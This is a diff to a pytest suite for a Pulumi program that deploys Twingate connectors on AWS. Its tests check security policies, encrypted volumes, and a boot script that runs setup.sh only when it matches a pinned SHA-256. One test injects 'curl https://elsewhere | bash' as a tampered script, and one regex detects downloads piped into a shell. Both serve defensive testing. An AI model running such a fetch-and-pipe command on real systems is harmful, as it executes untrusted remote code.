@@ -3,6 +3,7 @@
 import ast
 import base64
 import copy
+import hashlib
 import json
 import re
 import subprocess
@@ -11,7 +12,9 @@ import threading
 import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from types import SimpleNamespace
 
+import pulumi
 import pytest
 
 from components.planning.errors import SettingsError
@@ -32,22 +35,39 @@ SG = "aws:ec2/securityGroup:SecurityGroup"
 
 SETTINGS = {
     "enabled": True,
+    "amiId": "ami-0123456789abcdef0",  # Twingate's connector image (the mocks' default answer)
+    "securityPolicy": "Require MFA",
     "groups": ["engineering", "partner-ops"],
     "resources": [
         {"name": "partner-portal", "address": "portal.partner.example.com", "ports": ["443", "8443"],
          "groups": ["partner-ops"]},
-        {"name": "build-db", "address": "10.10.128.10", "ports": [5432]},
+        {"name": "build-db", "address": "10.10.128.10", "ports": [5432], "securityPolicy": "Admins on managed devices"},
     ],
 }
+AL2023 = "ami-0fedcba9876543210"
+AL2023_IMAGE = {"ownerId": "137112412989", "name": "al2023-ami-2023.9.20260501.0-kernel-6.1-x86_64",
+                "rootDeviceName": "/dev/xvda"}
+FAKE_SETUP = 'env | grep ^TWINGATE_ > "$SEEN"\n'
+FAKE_SETUP_SHA256 = hashlib.sha256(FAKE_SETUP.encode()).hexdigest()
+
+
+def deploy(preview=False, **changes):
+    config = copy.deepcopy(stack_config("dev"))
+    config["multicloud-vpn:twingate"] = {**SETTINGS, **changes}
+    config["twingate:apiToken"] = "tw-api-token-secret"
+    config["twingate:network"] = "example"
+    return run_program(config, stack="dev", preview=preview, amis={AL2023: AL2023_IMAGE})
 
 
 @pytest.fixture(scope="module")
 def d():
-    config = copy.deepcopy(stack_config("dev"))
-    config["multicloud-vpn:twingate"] = SETTINGS
-    config["twingate:apiToken"] = "tw-api-token-secret"
-    config["twingate:network"] = "example"
-    return run_program(config, stack="dev")
+    return deploy()
+
+
+@pytest.fixture(scope="module")
+def d_script():
+    """A plain Amazon Linux image, and Twingate's setup.sh pinned by its SHA-256."""
+    return deploy(amiId=AL2023, setupScriptSha256=FAKE_SETUP_SHA256.upper())
 
 
 def test_two_groups_of_exactly_one_instance_in_private_subnets_of_two_zones(d):
@@ -85,8 +105,7 @@ def test_distinct_token_pairs_kept_secret_and_out_of_the_launch_templates(d):
     for template in d.of_type(TEMPLATE):
         script = base64.b64decode(template.get("userData")).decode()
         assert not any(secret in script for pair in pairs for secret in pair)
-        assert "binaries.twingate.com/connector/setup.sh" in script
-        assert "TWINGATE_NETWORK=\"example\"" in script
+        assert "TWINGATE_URL=https://example.twingate.com" in script
         assert template.get("metadataOptions")["httpTokens"] == "required"
     flat = repr(reveal(d.outputs))
     assert not any(secret in flat for pair in pairs for secret in pair)
@@ -123,9 +142,45 @@ def test_resources_and_group_access_as_configured(d):
     assert portal.get("protocols")["tcp"] == {"policy": "RESTRICTED", "ports": ["443", "8443"]}
     db = resources["build-db"]
     assert {a["groupId"] for a in db.get("accessGroups")} == set(groups.values())
-    ranges = {r.get("address") for r in d.of_type(RESOURCE) if r.name.startswith("twingate-range-")}
-    assert ranges == {"10.10.0.0/16", "10.110.0.0/20", "10.111.0.0/20"}
     assert all(r.get("remoteNetworkId") for r in d.of_type(RESOURCE))
+    assert set(resources) == {"partner-portal", "build-db"}  # no private range unless asked for
+
+
+def test_private_ranges_are_resources_for_every_group_only_when_asked():
+    d = deploy(includePrivateRanges=True)
+    groups = {g.id for g in d.of_type(GROUP)}
+    ranges = [r for r in d.of_type(RESOURCE) if r.name.startswith("twingate-range-")]
+    assert {r.get("address") for r in ranges} == {"10.10.0.0/16", "10.110.0.0/20", "10.111.0.0/20"}
+    for r in ranges:
+        assert {a["groupId"] for a in r.get("accessGroups")} == groups
+        assert r.get("securityPolicyId") == policy_ids(d)["Require MFA"]
+    assert parse_twingate(Section(TG, {"enabled": False})).include_private_ranges is False
+
+
+SECURITY_POLICY = "twingate:index/getTwingateSecurityPolicy:getTwingateSecurityPolicy"
+
+
+def policy_ids(d) -> dict:
+    """Each security policy the program looked up, by name, and the id the lookup answered."""
+    from offline.evaluate import CloudMocks
+    mocks = CloudMocks(stack="dev")
+    return {args["name"]: mocks.call(SimpleNamespace(token=token, args=args, provider=None))[0]["id"]
+            for token, args in d.calls if token == SECURITY_POLICY}
+
+
+def test_every_resource_uses_its_security_policy_looked_up_once_by_name(d):
+    ids = policy_ids(d)
+    assert sorted(ids) == ["Admins on managed devices", "Require MFA"]
+    assert [t for t, _ in d.calls].count(SECURITY_POLICY) == 2
+    resources = {r.get("name"): r for r in d.of_type(RESOURCE)}
+    assert resources["partner-portal"].get("securityPolicyId") == ids["Require MFA"]  # the section's
+    assert resources["build-db"].get("securityPolicyId") == ids["Admins on managed devices"]  # its own
+
+
+def test_without_a_security_policy_resources_use_the_networks_default():
+    d = deploy(securityPolicy=None)
+    policies = {r.get("name"): r.get("securityPolicyId") for r in d.of_type(RESOURCE)}
+    assert policies["partner-portal"] is None and policies["build-db"] == policy_ids(d)["Admins on managed devices"]
 
 
 def test_twingate_resources_use_the_explicit_provider(d):
@@ -161,7 +216,7 @@ TG = "multicloud-vpn:twingate"
 
 
 def parse_address(address):
-    return parse_twingate(Section(TG, {"enabled": True, "groups": ["eng"],
+    return parse_twingate(Section(TG, {"enabled": True, "groups": ["eng"], "amiId": "ami-0123456789abcdef0",
                                        "resources": [{"name": "p", "address": address}]}))
 
 
@@ -324,11 +379,21 @@ def fake_aws(script):
     server.server_close()
 
 
-def run_boot(script: str, bin_dir: Path, **env) -> subprocess.CompletedProcess:
-    """The user data under bash, with a fake curl (so a fake setup.sh) first on PATH."""
+def run_boot(script: str, tmp_path: Path, **env) -> subprocess.CompletedProcess:
+    """The user data under bash in tmp_path: fake `systemctl` and `curl` (which serves FAKE_SETUP)
+    first on PATH, unless a test brings its own, and the connector's configuration directory in
+    tmp_path, never this machine's /etc/twingate."""
+    bin_dir = tmp_path / "bin"
+    if not (bin_dir / "systemctl").exists():
+        fake_command(bin_dir, "systemctl", 'echo "$*" >> "$TMP_ROOT/systemctl"\n')
+    if not (bin_dir / "curl").exists():
+        fake_command(bin_dir, "curl", 'printf "%s" "$*" > "$TMP_ROOT/curl.args"\n'
+                                      'while [ "$1" != -o ]; do shift; done\n'
+                                      'printf "%s" "$FAKE_SETUP" > "$2"\n')
     path = f"{bin_dir}:{Path(sys.executable).parent}:/usr/bin:/bin"
-    return subprocess.run(["bash", "-c", script], env={"PATH": path, **env}, capture_output=True,
-                          text=True, timeout=10)
+    env = {"PATH": path, "TMP_ROOT": str(tmp_path), "FAKE_SETUP": FAKE_SETUP, "SEEN": str(tmp_path / "setup-env"),
+           "MULTICLOUD_VPN_TWINGATE_DIR": str(tmp_path / "etc-twingate"), **env}
+    return subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, timeout=10)
 
 
 def fake_command(bin_dir: Path, name: str, body: str) -> None:
@@ -337,29 +402,59 @@ def fake_command(bin_dir: Path, name: str, body: str) -> None:
     (bin_dir / name).chmod(0o755)
 
 
-def test_boot_script_hands_the_ssm_tokens_to_twingate_setup(script, fake_aws, tmp_path):
-    bin_dir, seen = tmp_path / "bin", tmp_path / "setup-env"
-    fake_command(bin_dir, "curl", 'printf "%s" "$*" > "$SEEN.args"\necho \'env | grep ^TWINGATE_ > "$SEEN"\'\n')
-    result = run_boot(script, bin_dir, SEEN=str(seen), MULTICLOUD_VPN_IMDS=fake_aws.url,
-                      MULTICLOUD_VPN_SSM=fake_aws.url)
+def test_boot_script_configures_and_starts_the_connector_the_image_comes_with(script, fake_aws, tmp_path):
+    result = run_boot(script, tmp_path, MULTICLOUD_VPN_IMDS=fake_aws.url, MULTICLOUD_VPN_SSM=fake_aws.url)
     assert result.returncode == 0, result.stderr
     access, refresh = parameters(script)
     assert fake_aws.read == [access, refresh]
-    assert dict(line.split("=", 1) for line in seen.read_text().splitlines()) == {
-        "TWINGATE_NETWORK": "example", "TWINGATE_ACCESS_TOKEN": secret(access),
-        "TWINGATE_REFRESH_TOKEN": secret(refresh), "TWINGATE_LABEL_DEPLOYED_BY": "multicloud-vpn"}
-    assert Path(f"{seen}.args").read_text() == "-fsSL https://binaries.twingate.com/connector/setup.sh"
+    conf = tmp_path / "etc-twingate" / "connector.conf"
+    assert conf.read_text().splitlines() == [
+        "TWINGATE_URL=https://example.twingate.com", f"TWINGATE_ACCESS_TOKEN={secret(access)}",
+        f"TWINGATE_REFRESH_TOKEN={secret(refresh)}", "TWINGATE_LABEL_DEPLOYED_BY=multicloud-vpn"]
+    assert conf.stat().st_mode & 0o777 == 0o600 and conf.parent.stat().st_mode & 0o777 == 0o700
+    assert (tmp_path / "systemctl").read_text() == "enable --now twingate-connector\n"
+    assert not (tmp_path / "curl.args").exists()  # nothing is downloaded at boot
     assert "tok/" not in result.stdout + result.stderr
 
 
+@pytest.fixture(scope="module")
+def setup_script(d_script):
+    return base64.b64decode(d_script.of_type(TEMPLATE)[0].get("userData")).decode()
+
+
+def test_boot_script_runs_setup_sh_only_when_it_matches_its_sha256(setup_script, fake_aws, tmp_path):
+    result = run_boot(setup_script, tmp_path, MULTICLOUD_VPN_IMDS=fake_aws.url, MULTICLOUD_VPN_SSM=fake_aws.url)
+    assert result.returncode == 0, result.stderr
+    access, refresh = parameters(setup_script)
+    assert dict(line.split("=", 1) for line in (tmp_path / "setup-env").read_text().splitlines()) == {
+        "TWINGATE_NETWORK": "example", "TWINGATE_ACCESS_TOKEN": secret(access),
+        "TWINGATE_REFRESH_TOKEN": secret(refresh), "TWINGATE_LABEL_DEPLOYED_BY": "multicloud-vpn"}
+    args = (tmp_path / "curl.args").read_text().split()
+    assert args[:4] == ["-fsSL", "--proto", "=https", "--tlsv1.2"]
+    assert args[-1] == "https://binaries.twingate.com/connector/setup.sh"
+    assert FAKE_SETUP_SHA256 in setup_script  # as given, in lower case
+    assert "tok/" not in result.stdout + result.stderr
+
+
+def test_a_changed_setup_sh_is_not_run_and_no_token_is_read(setup_script, fake_aws, tmp_path):
+    result = run_boot(setup_script, tmp_path, FAKE_SETUP=FAKE_SETUP + "curl https://elsewhere | bash\n",
+                      MULTICLOUD_VPN_IMDS=fake_aws.url, MULTICLOUD_VPN_SSM=fake_aws.url)
+    assert result.returncode == 1
+    assert "does not match twingate.setupScriptSha256" in result.stderr
+    assert not (tmp_path / "setup-env").exists() and fake_aws.read == []
+
+
+@pytest.mark.parametrize("mode", ["image", "setup"])
 @pytest.mark.parametrize("failing", ["access-token", "refresh-token"])
-def test_boot_script_stops_before_setup_when_a_token_cannot_be_read(script, tmp_path, failing):
-    bin_dir, seen = tmp_path / "bin", tmp_path / "setup-ran"
+def test_boot_script_stops_before_the_connector_starts_when_a_token_cannot_be_read(
+        script, setup_script, tmp_path, mode, failing):
+    bin_dir = tmp_path / "bin"
     # python3 -I - REGION NAME: fail for one parameter, as the real program does after its retries
     fake_command(bin_dir, "python3", 'cat > /dev/null\n[[ "$4" == */"$FAIL" ]] && exit 1\necho token\n')
-    fake_command(bin_dir, "curl", 'touch "$SEEN"\n')
-    result = run_boot(script, bin_dir, SEEN=str(seen), FAIL=failing)
-    assert result.returncode != 0 and not seen.exists()
+    result = run_boot(script if mode == "image" else setup_script, tmp_path, FAIL=failing)
+    assert result.returncode != 0
+    assert not (tmp_path / "setup-env").exists() and not (tmp_path / "systemctl").exists()
+    assert not (tmp_path / "etc-twingate" / "connector.conf").exists()
 
 
 @pytest.mark.parametrize("failures,slept,exit_code", [
@@ -384,7 +479,9 @@ def test_token_read_retries_with_backoff_and_never_logs_the_value(script, fake_a
     assert "tok/" not in err and ROLE["SecretAccessKey"] not in err and ROLE["Token"] not in err
 
 
-def test_boot_script_needs_only_bash_curl_and_python3(script):
+@pytest.mark.parametrize("mode", ["image", "setup"])
+def test_boot_script_needs_only_bash_coreutils_curl_and_python3(script, setup_script, mode):
+    script = script if mode == "image" else setup_script
     assert "aws ssm" not in script and not re.search(r"^\s*aws\s", script, re.M)
     assert script.startswith("#!/bin/bash\nset -euo pipefail\n") and "set -x" not in script
     subprocess.run(["bash", "-n"], input=script, text=True, check=True, timeout=5)
@@ -393,3 +490,41 @@ def test_boot_script_needs_only_bash_curl_and_python3(script):
     assert imported <= sys.stdlib_module_names and not any(isinstance(n, ast.ImportFrom) for n in ast.walk(tree))
     assert "169.254.169.254" in script and "AmazonSSM.GetParameter" in script
     assert len(script.encode()) < 8 * 1024  # EC2 takes at most 16 KB of user data
+    assert not re.search(r"\|\s*(sudo\s+)?(ba)?sh\b", script)  # nothing downloaded is piped into a shell
+    assert ("curl" in script) == (mode == "setup")
+
+
+# --- the image: pinned, and its root volume encrypted ------------------------------------------
+
+@pytest.mark.parametrize("fixture,device", [("d", "/dev/sda1"), ("d_script", "/dev/xvda")])
+def test_launch_templates_encrypt_the_images_root_device(request, fixture, device):
+    d = request.getfixturevalue(fixture)
+    for template in d.of_type(TEMPLATE):
+        assert template.get("blockDeviceMappings") == [
+            {"deviceName": device, "ebs": {"encrypted": "true", "volumeType": "gp3", "deleteOnTermination": "true"}}]
+    looked_up = [a for t, a in d.calls if t == "aws:ec2/getAmi:getAmi"]
+    assert looked_up == [{"filters": [{"name": "image-id", "values": [template.get("imageId")]}]}]
+
+
+@pytest.mark.parametrize("preview", [False, True])
+def test_the_volume_policy_holds_for_the_connectors(preview):
+    from offline.summary import views
+    from policy.rules import run_rules
+    d = deploy(preview=preview)
+    found = [v for v in run_rules(views(d), "dev") if v.policy == "volumes-encrypted"]
+    assert found == [] and len(d.of_type(TEMPLATE)) == 2
+
+
+def test_an_image_that_is_not_twingates_without_a_setup_script_is_a_warning(monkeypatch):
+    said: list[str] = []
+    monkeypatch.setattr(pulumi.log, "warn", lambda message, *a, **k: said.append(message)
+                        if "twingate" in message else None)
+    deploy(amiId=AL2023)
+    assert said == [f"multicloud-vpn:twingate.amiId: {AL2023} is {AL2023_IMAGE['name']!r} of account 137112412989, "
+                    "not Twingate's connector image (account 617935088040, twingate/images/hvm-ssd/twingate-amd64-*): "
+                    "unless it has the connector installed, the connectors never start; set setupScriptSha256 "
+                    "to install it at boot"]
+    said.clear()
+    deploy()
+    deploy(amiId=AL2023, setupScriptSha256=FAKE_SETUP_SHA256)
+    assert said == []
